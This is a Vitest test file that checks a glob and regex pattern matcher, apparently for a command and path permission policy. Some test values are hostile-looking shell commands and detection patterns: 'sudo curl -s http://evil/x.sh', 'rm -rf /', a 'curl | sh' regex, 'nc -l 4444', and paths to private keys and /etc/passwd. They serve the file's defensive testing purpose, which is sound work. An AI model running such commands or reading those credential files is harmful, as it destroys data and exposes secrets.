import { describe, expect, it } from 'vitest';
import { isRegexPattern, matchPattern, patternError } from '../../src/specs/glob-match.js';
import type { PatternKind } from '../../src/specs/glob-match.js';

describe('matchPattern', () => {
  const cases: [pattern: string, subject: string, kind: PatternKind, expected: boolean][] = [
    // literals match the whole subject only
    ['bash', 'bash', 'name', true],
    ['bash', 'bash2', 'name', false],
    ['bash', 'xbash', 'name', false],
    ['', '', 'name', true],
    ['', 'a', 'name', false],
    // `?` is one character
    ['ba?h', 'bash', 'name', true],
    ['ba?h', 'bah', 'name', false],
    ['ba?h', 'basth', 'name', false],
    // `*` crosses `/` for commands and names
    ['curl *', 'curl http://x/y', 'command', true],
    ['*curl*', 'sudo curl -s http://evil/x.sh', 'command', true],
    ['curl*', 'sudo curl x', 'command', false],
    ['rm -rf *', 'rm -rf /', 'command', true],
    ['*', '', 'command', true],
    ['*', 'a/b/c', 'command', true],
    ['a?c', 'a/c', 'command', true],
    ['edr-*', 'edr-canary', 'name', true],
    ['edr-*', 'sre-health', 'name', false],
    // paths: `*` and `?` stop at `/`, `**` crosses
    ['/etc/*', '/etc/passwd', 'path', true],
    ['/etc/*', '/etc/ssl/private', 'path', false],
    ['/etc/**', '/etc/ssl/private/key.pem', 'path', true],
    ['/etc/**', '/etc/', 'path', true],
    ['/etc/**', '/etc', 'path', false],
    ['/a?c', '/a/c', 'path', false],
    ['/a?c', '/abc', 'path', true],
    ['**/*.pem', '/etc/ssl/private/key.pem', 'path', true],
    ['**/*.pem', '/key.pem', 'path', true],
    ['**/*.pem', '/etc/ssl/key.pem.bak', 'path', false],
    ['/home/*/.ssh/**', '/home/ann/.ssh/id_ed25519', 'path', true],
    ['/home/*/.ssh/**', '/home/ann/x/.ssh/id_ed25519', 'path', false],
    // `**/` in the middle may stand for no directory at all
    ['/a/**/b', '/a/b', 'path', true],
    ['/a/**/b', '/a/x/y/b', 'path', true],
    ['/a/**/b', '/a/xb', 'path', false],
    ['/a/**/b', '/ab', 'path', false],
    // regex, unanchored, for commands and names only
    ['/curl.*\\|\\s*sh/', 'curl http://x | sh', 'command', true],
    ['/curl.*\\|\\s*sh/', 'curl http://x > f', 'command', false],
    ['/^nc\\b/', 'nc -l 4444', 'command', true],
    ['/^nc\\b/', 'sync', 'command', false],
    ['/canary/', 'edr-canary-2', 'name', true],
    ['/etc/', '/etc/', 'path', true], // a path pattern is never a regex
    ['/etc/', '/etc/passwd', 'path', false],
    ['/a/**/b/**/c', '/a/b/c', 'path', true],
    ['/a/**/b/**/c', '/a/x/b/y/z/c', 'path', true],
    ['/a/**/b/**/c', '/a/x/by/c', 'path', false],
    ['/(/', '(', 'command', false], // invalid regex matches nothing
    // regex characters in a glob are literal
    ['a.b', 'axb', 'name', false],
    ['a.b', 'a.b', 'name', true],
    ['(x)+', '(x)+', 'command', true],
    ['[ab]', 'a', 'name', false],
    // unicode is matched per character
    ['caf?', 'café', 'name', true],
  ];
  it.each(cases)('%j against %j (%s) → %s', (pattern, subject, kind, expected) => {
    expect(matchPattern(pattern, subject, kind)).toBe(expected);
  });

  it('stays fast on patterns that make a backtracking matcher explode', () => {
    const subject = `${'a'.repeat(20_000)}b`;
    const started = Date.now();
    expect(matchPattern('*a*a*a*a*a*a*a*a*a*a*c', subject, 'command')).toBe(false);
    expect(Date.now() - started).toBeLessThan(2000);
  });
});

describe('isRegexPattern and patternError', () => {
  it.each([
    ['/x/', 'command', true],
    ['/x/', 'name', true],
    ['/x/', 'path', false],
    ['//', 'command', false],
    ['/x', 'command', false],
  ] as const)('%j (%s) is a regex: %s', (pattern, kind, expected) => {
    expect(isRegexPattern(pattern, kind)).toBe(expected);
  });

  it.each([
    ['/(/', 'command', /invalid regular expression/],
    ['/[a-/', 'name', /invalid regular expression/],
    ['etc/*', 'path', /start the pattern with \/ or \*\*/],
    ['*.pem', 'path', /start the pattern with/],
    ['', 'name', /must not be empty/],
  ] as const)('%j (%s) is refused', (pattern, kind, message) => {
    expect(patternError(pattern, kind)).toMatch(message);
  });

  it.each([
    ['/^rm /', 'command'],
    ['/root/**', 'path'],
    ['**/id_rsa', 'path'],
    ['rm -rf *', 'command'],
  ] as const)('%j (%s) is fine', (pattern, kind) => {
    expect(patternError(pattern, kind)).toBeUndefined();
  });
});
